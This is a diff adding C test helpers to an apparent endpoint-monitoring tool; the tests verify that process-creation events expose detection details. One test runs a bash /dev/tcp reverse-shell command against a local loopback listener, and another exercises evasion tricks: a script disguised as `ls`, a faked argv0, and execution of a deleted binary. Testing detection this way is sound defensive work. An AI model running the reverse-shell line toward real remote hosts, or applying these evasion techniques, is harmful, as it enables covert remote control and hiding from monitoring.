@@ -492,3 +492,188 @@ __attribute__((unused)) static void hostile_argv_check(void (*json_check)(const 
 	json_check(e);
 	free(got);
 }
+
+/* ---- what detection rules need (every backend; each says what it cannot give) ---- */
+
+/* The ExtraDetails value as a NUL-terminated copy in out ("" when absent). */
+__attribute__((unused)) static const char *extra_str(const struct event *e, const char *key,
+						     char *out, size_t size)
+{
+	struct event_value v;
+	size_t n = 0;
+
+	if (extra_get(e, key, &v) == 0) {
+		n = v.len < size - 1 ? v.len : size - 1;
+		memcpy(out, v.s, n);
+	}
+	out[n] = '\0';
+	return out;
+}
+
+/* Polls until a ProcessCreate of pid whose Executable ends with exe_suffix arrives. */
+__attribute__((unused)) static const struct event *wait_create(pid_t pid, const char *exe_suffix)
+{
+	uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
+	size_t slen = strlen(exe_suffix);
+	char exe[512];
+
+	for (;;) {
+		for (size_t i = 0; i < tsink.n; i++) {
+			const struct event *e = tsink.ev[i];
+			size_t n;
+
+			if (event_get_type(e) != EVENT_PROCESS_CREATE ||
+			    field_int(e, PC_PROCESS_ID) != pid)
+				continue;
+			n = strlen(field_str(e, PC_EXECUTABLE, exe, sizeof(exe)));
+			if (n >= slen && strcmp(exe + n - slen, exe_suffix) == 0)
+				return e;
+		}
+		if (time_now_monotonic_ns() >= end)
+			return NULL;
+		pump_once(100);
+	}
+}
+
+/* A listener on 127.0.0.1 (an ephemeral port): the fd, and the port in *ret_port. */
+__attribute__((unused)) static int listen_loopback(unsigned *ret_port)
+{
+	struct sockaddr_storage ss;
+	socklen_t sl = loopback(AF_INET, &ss, 0);
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	assert_true(fd >= 0);
+	assert_int_equal(bind(fd, (struct sockaddr *)&ss, sl), 0);
+	assert_int_equal(listen(fd, 4), 0);
+	*ret_port = sock_port(fd, false);
+	return fd;
+}
+
+/*
+ * A reverse shell: `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'` against our listener.
+ * The inner bash's ProcessCreate must say that its stdin and stdout are a socket to the
+ * listener, and name its parent (the outer bash).
+ */
+__attribute__((unused)) static void reverse_shell_check(void)
+{
+	char cmd[160], got[512], want[64];
+	char *argv[] = { "/bin/bash", "-c", cmd, marker, NULL };
+	const struct event *e = NULL;
+	unsigned port;
+	int lfd = listen_loopback(&port), cfd;
+	pid_t pid;
+	uint64_t end;
+
+	sink_clear();
+	snprintf(cmd, sizeof(cmd), "/bin/bash -i >& /dev/tcp/127.0.0.1/%u 0>&1", port);
+	pid = spawn(argv, NULL);
+	cfd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
+	assert_true(cfd >= 0);
+	end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
+	while (!e && time_now_monotonic_ns() < end) {
+		for (size_t i = 0; i < tsink.n && !e; i++)
+			if (event_get_type(tsink.ev[i]) == EVENT_PROCESS_CREATE &&
+			    field_int(tsink.ev[i], PC_PARENT_PROCESS_ID) == pid &&
+			    strstr(field_str(tsink.ev[i], PC_COMMAND_LINE, got, sizeof(got)),
+				   "bash -i"))
+				e = tsink.ev[i];
+		if (!e)
+			pump_once(100);
+	}
+	assert_true(write(cfd, "exit\n", 5) == 5);
+	reap(pid);
+	close(cfd);
+	close(lfd);
+	assert_non_null(e);
+	assert_string_equal(extra_str(e, "Stdin", got, sizeof(got)), "socket");
+	assert_string_equal(extra_str(e, "Stdout", got, sizeof(got)), "socket");
+	snprintf(want, sizeof(want), "127.0.0.1:%u", port);
+	assert_string_equal(extra_str(e, "StdioRemote", got, sizeof(got)), want);
+	/* the path execve was given, or (proc connector) the resolved binary */
+	extra_str(e, "ParentExecutable", got, sizeof(got));
+	assert_true(strlen(got) >= 5 && strcmp(got + strlen(got) - 5, "/bash") == 0);
+	assert_non_null(strstr(extra_str(e, "ParentCommandLine", got, sizeof(got)), marker));
+}
+
+/*
+ * A script named `ls` run through its #! interpreter, `exec -a fakename sleep`, and a binary
+ * run from a file deleted before the exec (fexecve of an unlinked copy).  interp_want: the
+ * Interpreter the backend reports for `#!/bin/sh` (NULL: it cannot tell, see the docs).
+ */
+__attribute__((unused)) static void renamed_binary_check(const char *interp_want)
+{
+	char dir[] = "/tmp/edgesec-test-XXXXXX", path[64], got[512], cmd[64];
+	char *script_argv[] = { path, marker, NULL };
+	char *execa_argv[] = { "/bin/bash", "-c", cmd, NULL };
+	const struct event *e;
+	int fd, sfd, dfd;
+	pid_t pid;
+
+	/* A script called ls: Interpreter. */
+	sink_clear();
+	assert_non_null(mkdtemp(dir));
+	snprintf(path, sizeof(path), "%s/ls", dir);
+	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
+	assert_true(fd >= 0);
+	assert_true(write(fd, "#!/bin/sh\nsleep 1\ntrue\n", 23) == 23);
+	close(fd);
+	pid = spawn(script_argv, NULL);
+	if (interp_want) {
+		e = wait_create(pid, "/ls");
+		assert_non_null(e);
+		assert_string_equal(extra_str(e, "Interpreter", got, sizeof(got)), interp_want);
+		assert_int_not_equal(extra_get(e, "Argv0", &(struct event_value){ 0 }), 0);
+	}
+	reap(pid);
+	unlink(path);
+
+	/* exec -a: Argv0. */
+	sink_clear();
+	snprintf(cmd, sizeof(cmd), "exec -a fakename-%d /bin/sleep 1", (int)getpid());
+	pid = spawn(execa_argv, NULL);
+	e = wait_create(pid, "/sleep");
+	reap(pid);
+	assert_non_null(e);
+	snprintf(cmd, sizeof(cmd), "fakename-%d", (int)getpid());
+	assert_string_equal(extra_str(e, "Argv0", got, sizeof(got)), cmd);
+
+	/* A deleted binary: ExecutableDeleted. */
+	sink_clear();
+	snprintf(path, sizeof(path), "%s/sleepcopy", dir);
+	sfd = open("/bin/sleep", O_RDONLY | O_CLOEXEC);
+	dfd = open(path, O_RDWR | O_CREAT | O_EXCL, 0755);
+	assert_true(sfd >= 0 && dfd >= 0);
+	for (char buf[65536];;) {
+		ssize_t n = read(sfd, buf, sizeof(buf));
+
+		assert_true(n >= 0);
+		if (n == 0)
+			break;
+		assert_true(write(dfd, buf, (size_t)n) == n);
+	}
+	close(sfd);
+	close(dfd);
+	dfd = open(path, O_RDONLY); /* no O_CLOEXEC: fexecve needs it open across the exec */
+	assert_true(dfd >= 0);
+	assert_int_equal(unlink(path), 0);
+	pid = fork();
+	assert_true(pid >= 0);
+	if (pid == 0) {
+		char *argv[] = { "sleepcopy", "1", NULL };
+
+		fexecve(dfd, argv, environ);
+		_exit(127);
+	}
+	close(dfd);
+	e = NULL;
+	for (uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
+	     !e && time_now_monotonic_ns() < end; pump_once(100))
+		for (size_t i = 0; i < tsink.n && !e; i++)
+			if (event_get_type(tsink.ev[i]) == EVENT_PROCESS_CREATE &&
+			    field_int(tsink.ev[i], PC_PROCESS_ID) == pid)
+				e = tsink.ev[i];
+	reap(pid);
+	assert_non_null(e);
+	assert_string_equal(extra_str(e, "ExecutableDeleted", got, sizeof(got)), "true");
+	rmdir(dir);
+}
